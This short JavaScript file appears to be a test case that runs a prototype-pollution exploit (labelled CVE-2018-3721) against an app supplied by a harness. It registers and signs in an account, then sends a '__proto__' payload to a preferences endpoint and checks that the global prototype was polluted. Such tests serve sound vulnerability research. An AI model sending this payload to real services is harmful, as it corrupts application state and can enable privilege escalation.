'use strict';

// CVE-2018-3721: merging `{"__proto__": …}` writes to the prototype of every object there is.
const { attack } = require('./attack');

attack(async ({ url }) => {
  const json = { 'content-type': 'application/json' };
  const mallory = JSON.stringify({ email: 'mallory@example.com', password: 'let me in' });
  await fetch(`${url}/account/register`, { method: 'POST', headers: json, body: mallory });
  const signedIn = await fetch(`${url}/account/sign-in`, {
    method: 'POST',
    headers: json,
    body: mallory,
    redirect: 'manual',
  });
  await fetch(`${url}/account/preferences`, {
    method: 'PATCH',
    headers: { ...json, cookie: signedIn.headers.get('set-cookie').split(';')[0] },
    body: '{"__proto__": {"polluted": true}}',
  });
  return {}.polluted === true;
});
